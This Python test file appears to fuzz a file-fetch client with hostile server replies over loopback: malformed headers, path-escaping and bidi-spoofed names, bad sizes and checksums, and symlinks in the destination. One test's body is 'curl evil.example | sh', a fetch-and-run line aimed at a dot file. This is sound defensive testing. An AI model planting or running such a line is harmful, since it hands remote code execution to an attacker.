"""The file-fetch client against a hostile file server, over real loopback sockets.

tests/netcore/test_filefetch_codec.py refuses each malformed header once through a scripted socket;
here a fake server answers hundreds of fetches with hypothesis-made replies — header lengths over any
limit, headers that are not UTF-8, not JSON or not objects, sizes that are negative, huge or not
numbers, names that leave the folder, wrong md5, bodies cut short — to requests for names that are
new or hit a file, a folder or a symlink already there, and every fetch must end with the file (under
the requested name, whatever the server calls it) or a typed error in bounded time, leaving nothing
behind: no temporary file, no file outside the destination, nothing changed beside it.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import struct
import tempfile
import time
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import event, given, settings
from hypothesis import strategies as st

from netcore.engines.filefetch import FetchClient
from netcore.errors import FileFetchError, InternalError, RemoteProtocolError, SocketLabError
from netcore.io.platform import windows_name_problem
from netcore.model.fetch import FetchResult
from netcore.protocols.filehdr import name_fields
from tests.hostile.strategies import BAD_SIZES, BROKEN_JSON, HUGE_LENGTHS_4, NAMES, cut, json_header
from tests.hostile.support import FakeTcpServer, play_and_close
from tests.netcore.support import WAIT_S
from tests.requires import posix

pytestmark = [
    pytest.mark.filterwarnings("error::pytest.PytestUnhandledThreadExceptionWarning"),
    posix("the destination folder holds symbolic links (Windows lets only administrators make them)"),
]

REQUESTED = "wanted.txt"
VICTIM = b"a file outside the destination folder\n"
EXISTING = b"a file already in the destination folder\n"
PROFILE = b"export PATH=/usr/bin\n"
RIGHT_MD5 = "right"  # placeholder: the header carries the body's real md5


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hostile-fetch")


def workspace(base: Path) -> Path:
    """A fresh folder with dest/ (a file, an empty folder, a symlink out, a dangling symlink, a dot
    file) beside outside/ (the file the symlink points at)."""
    ws = Path(tempfile.mkdtemp(dir=base))
    (ws / "outside").mkdir()
    (ws / "outside" / "victim.txt").write_bytes(VICTIM)
    dest = ws / "dest"
    dest.mkdir()
    (dest / "existing.txt").write_bytes(EXISTING)
    (dest / "dir.d").mkdir()
    (dest / "link.txt").symlink_to("../outside/victim.txt")
    (dest / "dangling.txt").symlink_to("../outside/nothing.txt")
    (dest / ".profile").write_bytes(PROFILE)
    return ws


def snapshot(folder: Path) -> dict[str, tuple[str, bytes | str]]:
    """Every entry under *folder* (symlinks not followed): its kind and its content or target."""
    entries: dict[str, tuple[str, bytes | str]] = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            key = str(path.relative_to(folder))
            if path.is_symlink():
                entries[key] = ("link", os.readlink(path))
            elif path.is_dir():
                entries[key] = ("dir", "")
            else:
                entries[key] = ("file", path.read_bytes())
    return entries


def safe_name(name: object) -> bool:
    """Whether a header's file_name is a plain name of at most 255 UTF-8 bytes, valid on Windows,
    without invisible format characters (bidirectional controls among them)."""
    if not isinstance(name, str) or name in ("", ".", ".."):
        return False
    try:
        size = len(name.encode())
    except UnicodeEncodeError:
        return False
    return (
        size <= 255
        and not any(c in name for c in "/\\\0")
        and windows_name_problem(name) is None
        and not any(unicodedata.category(c) == "Cf" for c in name)
    )


SPECIAL_NAMES = st.sampled_from(
    [REQUESTED, "fresh.bin", "existing.txt", "dir.d", "link.txt", "dangling.txt", ".profile", ".bashrc"]
)
REQUESTS = st.sampled_from([REQUESTED, "existing.txt", "dir.d", "link.txt", "dangling.txt"])
NOT_STRINGS = st.integers() | st.none() | st.lists(st.text(max_size=3), max_size=2)
MD5S = st.sampled_from([RIGHT_MD5, RIGHT_MD5, "0" * 32, "RIGHT"]) | st.integers() | st.none()


def pick(draw: st.DrawFn, *choices: st.SearchStrategy[Any]) -> Any:
    """A value from one of *choices*, each as likely as the others (``one_of`` would weigh the
    branches of nested strategies instead)."""
    return draw(draw(st.sampled_from(choices)))


@st.composite
def replies(draw: st.DrawFn) -> tuple[bytes, dict[str, Any] | None, bytes]:
    """A whole reply, the header it carries when well formed (else None: the kind that reads its
    length in the other byte order counts as well formed for a client that detects it), and its body."""
    body = draw(st.binary(max_size=3000))
    size = pick(draw, st.just(len(body)), st.just(len(body)), st.integers(0, 3000), BAD_SIZES, st.just(2**40))
    header: dict[str, Any] = {"data_all": size}
    if draw(st.integers(0, 3)):
        header["file_name"] = pick(draw, SPECIAL_NAMES, SPECIAL_NAMES, NAMES, NOT_STRINGS)
    md5 = pick(draw, st.none(), MD5S)
    if md5 is not None:
        digest = hashlib.md5(body[:size] if type(size) is int and size >= 0 else body).hexdigest()
        header["file_hex"] = {RIGHT_MD5: digest, "RIGHT": digest.upper()}.get(md5, md5)
    if draw(st.integers(0, 9)) == 0:
        header["error"] = draw(st.text(max_size=20))
    raw = json.dumps(header, ensure_ascii=draw(st.booleans())).encode("utf-8", "surrogateescape")
    kind = draw(
        st.sampled_from(["good", "good", "good", "good", "little-endian", "bad-json", "bad-length", "cut"])
    )
    if kind == "bad-json":
        raw = draw(BROKEN_JSON)
    if kind == "bad-length":
        prefix = struct.pack(draw(st.sampled_from(["!I", "<I"])), draw(st.sampled_from(HUGE_LENGTHS_4)))
    else:
        prefix = struct.pack("<i" if kind == "little-endian" else "!I", len(raw))
    reply = prefix + raw + body
    if kind == "cut":
        at = draw(st.integers(0, len(reply) - 1))
        reply = reply[:at]
        if type(size) is int and 0 <= size <= len(body) and at >= len(prefix) + len(raw) + size:
            kind = "good"  # only bytes past the announced body were cut: the reply is whole
    if kind == "little-endian":
        header["byte order"] = "<i"
    return reply, header if kind in ("good", "little-endian") and is_utf8(raw) else None, body


def is_utf8(raw: bytes) -> bool:
    """False for a header with a lone surrogate written unescaped (ensure_ascii=False): no UTF-8 text,
    so no header, whatever it holds."""
    try:
        raw.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return True


def expected_failure(
    header: dict[str, Any], body: bytes, dest: Path, requested: str, overwrite: bool
) -> type | None:
    """The error a well-formed reply to a request for *requested* must end with (None: the fetch must
    succeed). The server's name must be a safe name too, but the file is saved as *requested*."""
    size = header["data_all"]
    if type(size) is not int or size < 0:
        return RemoteProtocolError
    if "error" in header:
        return FileFetchError
    if not safe_name(header.get("file_name", requested)):
        return RemoteProtocolError
    final = dest / requested
    if final.exists() and not overwrite:
        return FileFetchError
    if size > shutil.disk_usage(dest).free:
        return FileFetchError
    if len(body) < size:
        return RemoteProtocolError
    md5 = header.get("file_hex")
    if isinstance(md5, str) and md5.lower() != hashlib.md5(body[:size]).hexdigest():
        return RemoteProtocolError
    if final.is_dir() or (final.is_symlink() and not overwrite):
        return FileFetchError
    return None


@settings(max_examples=500, deadline=None)
@given(
    reply=replies(),
    data=st.data(),
    requested=REQUESTS,
    overwrite=st.booleans(),
    length_format=st.sampled_from(["auto", "!I"]),
)
def test_fetch_client_ends_hostile_replies_with_a_typed_error_and_leaves_nothing_behind(
    fake_tcp: FakeTcpServer,
    base: Path,
    reply: tuple[bytes, dict[str, Any] | None, bytes],
    data: st.DataObject,
    requested: str,
    overwrite: bool,
    length_format: str,
) -> None:
    """Every hostile reply ends in bounded time with the verified file saved in the destination, or a
    typed error (the one a well-formed header calls for) with the destination and the folder beside it
    exactly as they were: no temporary file, nothing written through a symlink. The saved file has the
    requested name, whatever the header's."""
    stream, header, body = reply
    if header is not None and header.pop("byte order", "!I") == "<i" and length_format == "!I":
        header = None  # read in the wrong byte order: the length is nonsense to this client
    ws = workspace(base)
    dest = ws / "dest"
    before = snapshot(ws)
    expected = expected_failure(header, body, dest, requested, overwrite) if header is not None else None
    fake_tcp.expect(play_and_close(data.draw(cut(stream)), len(requested)))
    client = FetchClient("127.0.0.1", fake_tcp.port, dest, length_format, timeout=WAIT_S, overwrite=overwrite)
    started = time.monotonic()
    outcome: FetchResult | SocketLabError
    try:
        client.connect()
        outcome = client.fetch(requested)
    except SocketLabError as exc:
        outcome = exc
    finally:
        client.close()
    fake_tcp.wait_done()
    assert time.monotonic() - started < WAIT_S
    after = snapshot(ws)
    shutil.rmtree(ws)
    event(type(outcome).__name__)
    assert not isinstance(outcome, InternalError)
    if isinstance(outcome, SocketLabError):
        assert after == before, "a failed fetch changed the folders"
        if header is not None:
            assert expected is not None, f"a good reply failed: {outcome!r}"
            assert isinstance(outcome, expected), outcome
        return
    assert header is not None, "a fetch succeeded on a malformed reply"
    assert expected is None, f"the fetch succeeded where {expected.__name__} was due"
    size = header["data_all"]
    assert (outcome.path, outcome.size) == (dest / requested, size)
    changed = {key for key in before.keys() | after.keys() if before.get(key) != after.get(key)}
    assert changed == {f"dest/{requested}"}, "the fetch changed more than its own file"
    assert after[f"dest/{requested}"] == ("file", body[:size])
    assert overwrite or f"dest/{requested}" not in before


def test_fetch_client_refuses_to_save_over_a_folder_with_a_typed_error(
    fake_tcp: FakeTcpServer, base: Path
) -> None:
    """A verified body for a requested name that is a folder of the destination, with overwriting
    allowed: a FileFetchError (not a bare IsADirectoryError) and the folders as they were."""
    ws = workspace(base)
    before = snapshot(ws)
    body = b"a body for a name that is a folder"
    header = {"file_name": "dir.d", "data_all": len(body), "file_hex": hashlib.md5(body).hexdigest()}
    fake_tcp.expect(play_and_close([json_header(header) + body], len("dir.d")))
    client = FetchClient("127.0.0.1", fake_tcp.port, ws / "dest", timeout=WAIT_S, overwrite=True)
    try:
        client.connect()
        with pytest.raises(FileFetchError, match=re.escape("cannot save 'dir.d'")):
            client.fetch("dir.d")
    finally:
        client.close()
    fake_tcp.wait_done()
    assert snapshot(ws) == before


@pytest.mark.parametrize("overwrite", [False, True], ids=["keep", "overwrite"])
@pytest.mark.parametrize("served", [".bashrc", ".profile"])
def test_a_server_cannot_choose_the_saved_name(
    fake_tcp: FakeTcpServer,
    base: Path,
    record_property: Callable[[str, object], None],
    served: str,
    overwrite: bool,
) -> None:
    """Asked for holiday.jpg, a server answers with a dot file's name and a verified body: only
    holiday.jpg is saved, .profile stays as it was, and the server's name is only reported."""
    ws = workspace(base)
    dest = ws / "dest"
    before = snapshot(ws)
    body = b"curl evil.example | sh\n"
    header = {**name_fields(served), "file_hex": hashlib.md5(body).hexdigest(), "data_all": len(body)}
    fake_tcp.expect(play_and_close([json_header(header) + body], len("holiday.jpg")))
    client = FetchClient("127.0.0.1", fake_tcp.port, dest, timeout=WAIT_S, overwrite=overwrite)
    try:
        client.connect()
        result = client.fetch("holiday.jpg")
    finally:
        client.close()
    fake_tcp.wait_done()
    after = snapshot(ws)
    changed = sorted(key for key in before.keys() | after.keys() if before.get(key) != after.get(key))
    record_property("server's name", served)
    record_property("saved as", result.name)
    record_property("entries changed", ", ".join(changed))
    assert changed == ["dest/holiday.jpg"]
    assert (result.path, result.server_name, result.verified) == (dest / "holiday.jpg", served, True)
    assert after["dest/holiday.jpg"] == ("file", body)
    assert after["dest/.profile"] == ("file", PROFILE)


@pytest.mark.parametrize(
    ("served", "why"),
    [("holiday\n.jpg", "U+000A"), ("holiday\u202egpj.exe", "U+202E, a bidirectional control")],
    ids=["newline", "bidi"],
)
def test_a_server_name_with_a_control_or_bidi_character_is_refused(
    fake_tcp: FakeTcpServer,
    base: Path,
    record_property: Callable[[str, object], None],
    served: str,
    why: str,
) -> None:
    """A header naming the file with a newline or a bidirectional control: refused, nothing saved."""
    ws = workspace(base)
    before = snapshot(ws)
    body = b"x"
    header = {"file_name": served, "file_hex": hashlib.md5(body).hexdigest(), "data_all": len(body)}
    fake_tcp.expect(play_and_close([json_header(header) + body], len("holiday.jpg")))
    client = FetchClient("127.0.0.1", fake_tcp.port, ws / "dest", timeout=WAIT_S)
    try:
        client.connect()
        with pytest.raises(RemoteProtocolError, match=re.escape(why)) as caught:
            client.fetch("holiday.jpg")
    finally:
        client.close()
    fake_tcp.wait_done()
    record_property("refusal", caught.value.describe())
    assert snapshot(ws) == before
